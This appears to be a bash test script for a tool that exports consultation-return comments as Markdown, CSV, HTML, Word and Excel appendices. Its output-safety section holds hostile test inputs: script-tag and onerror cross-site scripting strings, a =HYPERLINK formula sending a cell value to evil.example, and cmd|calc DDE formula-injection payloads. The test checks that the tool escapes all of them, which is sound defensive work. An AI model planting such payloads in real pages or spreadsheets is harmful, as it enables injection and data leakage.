#!/usr/bin/env bash
# returns appendix: the approved Markdown file; every matching comment
# exactly once, in district, collaborative, position order; html and docx;
# on hostile data (tests/data/hostile) a CSV a spreadsheet reads as text
# and an html page with nothing injected.
# usage: appendix_test.sh PATH/TO/returns SOURCE_DIR
source "$(dirname "$0")/lib.sh" "$@"

tag_corpus
db2="$work/db2"
build_db "$db2"

"$returns" appendix --db "$db2" --theme learning_walks --format md >"$work/appendix.md"
cmp -s "$work/appendix.md" "$src/tests/approved/appendix-learning-walks.md"
ok=$?; check "appendix md matches the approved file (diff: $(diff "$work/appendix.md" "$src/tests/approved/appendix-learning-walks.md" | head -5))" $ok

# Every matching comment exactly once, grouped by question, district, collaborative, in return order.
"$returns" appendix --db "$db2" --theme moderation --format csv >"$work/appendix.csv"
python3 -c "
import csv, json
rows = list(csv.DictReader(open('$work/appendix.csv', newline='')))
want = {(r['return_id'], r['position']) for r in map(json.loads, open('$work/t1.jsonl')) if 'moderation' in r['themes']}
got = [(r['return_id'], int(r['position'])) for r in rows]
assert len(got) == len(set(got)) and set(got) == want, (len(got), len(want))
keys = [(int(r['question']), r['district'], r['collaborative'], r['return_id'], int(r['position'])) for r in rows]
# Sections by question; within one, district then collaborative then position in the return.
assert [k[0] for k in keys] == sorted(k[0] for k in keys)
for q in {k[0] for k in keys}:
    section = [k[1:] for k in keys if k[0] == q]
    assert section == sorted(section), section
"; check "appendix: each matching comment once, in district, collaborative, position order" $?
"$returns" appendix --db "$db2" --question 3 --format html >"$work/appendix.html"
[ "$(grep -o '<p class="quote">' "$work/appendix.html" | wc -l)" -eq "$(grep -c '"question":3' "$work/t1.jsonl")" ]
check "html appendix of question 3 holds every comment of question 3 once" $?

# Word: written directly (no converter), read back with python-docx (Debian's python3-docx).
"$returns" appendix --db "$db2" --theme elc --format docx --out "$work/elc.docx"
"$office_python" - "$work/elc.docx" <<'PY'
import sys, docx
d = docx.Document(sys.argv[1])
texts = [p.text for p in d.paragraphs]
assert texts.count("Appendix: theme elc") == 1, texts[:3]            # the title once
assert d.paragraphs[0].style.name == "Title", d.paragraphs[0].style.name
assert any(t.startswith("Question ") for t in texts)
s = d.sections[0]
assert s.page_width > s.page_height and abs(s.page_width.mm - 297) < 1 and abs(s.page_height.mm - 210) < 1  # A4 landscape
t = d.tables[0]
assert [c.text for c in t.rows[0].cells] == ["District", "Collaborative", "Lead school(s)", "Comments"]
assert t.rows[0]._tr.trPr.find(docx.oxml.ns.qn("w:tblHeader")) is not None      # repeated on each page
body = "\n".join(c.text for r in t.rows[1:] for c in r.cells)
assert "Weald Consortium" in body and "first cohort is complete" in body
runs = [r for p in d.paragraphs for r in p.runs] + [r for row in t.rows for c in row.cells for p in c.paragraphs for r in p.runs]
assert any(r.style.name == "Theme Match" and "ELC" in r.text.upper() for r in runs)
assert "PAGE" in s.footer._element.xml and "NUMPAGES" in s.footer._element.xml
PY
check "docx appendix: title once, A4 landscape, the table's heading row repeated, the comments, ELC marked, page numbers" $?
"$returns" appendix --db "$db2" --theme elc --format docx --page letter --portrait | "$office_python" -c "
import sys, io, docx
s = docx.Document(io.BytesIO(sys.stdin.buffer.read())).sections[0]
assert s.page_width < s.page_height and abs(s.page_width.inches - 8.5) < 0.01 and abs(s.page_height.inches - 11) < 0.01
"; check "docx appendix --page letter --portrait, written to a pipe" $?
"$returns" appendix --db "$db2" --theme elc --format docx --out "$work/elc2.docx"
cmp -s "$work/elc.docx" "$work/elc2.docx"; check "docx appendix: the same selection gives the same bytes" $?
# A reference document made with python-docx: its Title style red; ours for the styles it lacks.
"$office_python" -c "
import docx, docx.shared
d = docx.Document()
d.styles['Title'].font.color.rgb = docx.shared.RGBColor(0xC0, 0, 0)
d.save('$work/reference.docx')
"
"$returns" appendix --db "$db2" --theme elc --format docx --reference-doc "$work/reference.docx" --out "$work/styled.docx"
"$office_python" -c "
import docx
d = docx.Document('$work/styled.docx')
assert str(d.styles['Title'].font.color.rgb) == 'C00000'
assert d.styles['Theme Match'] is not None and d.styles['Comment'] is not None
"; check "docx appendix --reference-doc: the reference's styles, ours where it has none" $?
expect_error "appendix: --reference-doc not a Word document" 2 "not a Word document" \
  "$returns" appendix --db "$db2" --format docx --reference-doc "$src/README.md" --out "$work/x.docx"
[ ! -e "$work/x.docx" ]; check "appendix: no docx left by a failed run" $?
expect_error "appendix: unknown --page" 2 "unknown --page 'a5' (a4 or letter)" \
  "$returns" appendix --db "$db2" --format docx --page a5 --out "$work/x.docx"

# Excel: one row per comment with every field, read back with openpyxl.
"$returns" appendix --db "$db2" --question 3 --format xlsx --out "$work/q3.xlsx"
"$office_python" - "$work/q3.xlsx" "$work/t1.jsonl" <<'PY'
import sys, json, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
assert wb.sheetnames == ["Comments", "About"], wb.sheetnames
ws = wb["Comments"]
head = [c.value for c in ws[1]]
assert head[:14] == ["Question", "Round", "District", "Collaborative", "Lead school(s)", "Return id", "Comment id",
                     "Position", "Heading", "Comment", "Themes", "Pending", "Source", "Line"], head
assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:N%d" % ws.max_row, (ws.freeze_panes, ws.auto_filter.ref)
rows = [dict(zip(head, [c.value for c in r])) for r in ws.iter_rows(min_row=2)]
want = [r for r in map(json.loads, open(sys.argv[2])) if r["question"] == 3]
assert len(rows) == len(want), (len(rows), len(want))
assert {r["Comment id"] for r in rows} == {r["comment_id"] for r in want}
by_id = {r["comment_id"]: r for r in want}
for r in rows:
    w = by_id[r["Comment id"]]
    assert isinstance(r["Question"], int) and r["Question"] == 3
    assert isinstance(r["Position"], int) and r["Position"] == w["position"]
    assert isinstance(r["Line"], int) and r["Line"] == w["line"]
    assert r["Comment"] == w["text"] and r["Round"] == "2013-03", r
    assert (r["Themes"] or "") == "; ".join(w["themes"])
for row in ws.iter_rows():
    for c in row:
        assert c.data_type != "f", c.coordinate
PY
check "xlsx appendix: a row per comment, every field, numbers as numbers, header frozen and filtered, no formulas" $?
# Output safety: hostile labels, names and text (tests/data/hostile).
hostile="$work/hostile"
build_hostile_db "$hostile"
dover="Dover <script>document.body.dataset.pwned='district'</script>"
evil="\"><img src=x onerror=\"document.body.dataset.pwned='collaborative'\"> & Co"
tab=$'\t'
heading="Priority 1 ' onmouseover='document.body.dataset.pwned=1' \" onfocus=\"document.body.dataset.pwned=2\""
"$returns" appendix --db "$hostile" --format csv >"$work/hostile.csv"
check_output csv "$work/hostile.csv" --expect "$dover" --expect "$evil" --expect "$heading" \
  --expect "'=HYPERLINK(\"http://evil.example/?\"&A1,\"moderation report\")" \
  --expect "'+44 moderation <script>document.body.dataset.pwned='text'</script> and a learning walk" \
  --expect "'-2+3+cmd|' /C calc'!A0 moderation" --expect "'@SUM(1+1)*cmd|' /C calc'!A0 learning walk" \
  --expect "'${tab}Tab first: moderation planned <img src=x onerror=\"document.body.dataset.pwned='img'\">" \
  --expect "'-Thanet" --expect "'@Group" --expect "'+Plus School" --expect "'=Swale" \
  --expect "St Mary's & St John's <b>CE</b>; =HYPERLINK(\"http://evil.example/\",\"click\")"
check "regression: appendix --format csv: cells starting with = + - @ or a tab are text to a spreadsheet; text quoted" $?
for theme in "" learning_walks; do
  "$returns" appendix --db "$hostile" --format html ${theme:+--theme "$theme"} >"$work/hostile$theme.html"
  headed=(--expect "$heading:")  # the heading's comment has no learning walk
  [ -z "$theme" ] || headed=()
  check_output html "$work/hostile$theme.html" --expect "$dover" --expect "$evil" "${headed[@]}" \
    --expect "+44 moderation <script>document.body.dataset.pwned='text'</script> and a learning walk" \
    --expect "St Mary's & St John's <b>CE</b>; =HYPERLINK(\"http://evil.example/\",\"click\")" \
    --expect "Plain & \"Quoted\" 'Group'" --expect "<i>Lead</i>"
  check "appendix --format html ${theme:+--theme $theme}: names, headings and comments escaped; nothing injected" $?
done
"$returns" appendix --db "$hostile" --format html "walk OR '<script>x</script>'" >"$work/hostile-query.html"
check_output html "$work/hostile-query.html" --expect "Appendix: query \"walk OR '<script>x</script>'\""
check "appendix html: the query in the title and heading escaped" $?

# Hostile text in Excel: text cells, never formulas; the attributes carried through.
"$returns" appendix --db "$hostile" --format xlsx --out "$work/hostile.xlsx"
"$office_python" - "$work/hostile.xlsx" <<'PY'
import sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1])["Comments"]
values = set()
for row in ws.iter_rows(min_row=2):
    for c in row:
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str): values.add(c.value)
for text in ['=HYPERLINK("http://evil.example/?"&A1,"moderation report")', "-Thanet", "@Group", "=Swale", "+Plus School"]:
    assert any(v == text or v.startswith(text) for v in values), text
PY
check "regression: appendix --format xlsx: cells starting with = + - @ are text, never formulas" $?

# On a terminal (a pty from util-linux's script) a Word document is refused, not spilled as bytes.
if command -v script >/dev/null; then
  script -qec "'$returns' appendix --db '$db2' --format docx" /dev/null >"$work/tty.out" 2>&1
  [ $? -eq 2 ] && grep -q "give --out FILE" "$work/tty.out" && ! grep -q "word/document.xml" "$work/tty.out"
  check "appendix --format docx on a terminal: refused, asking for --out" $?
fi
expect_error "appendix: unknown format" 2 "unknown --format 'pdf' (md, html, csv, docx or xlsx)" \
  "$returns" appendix --db "$db2" --format pdf

finish appendix
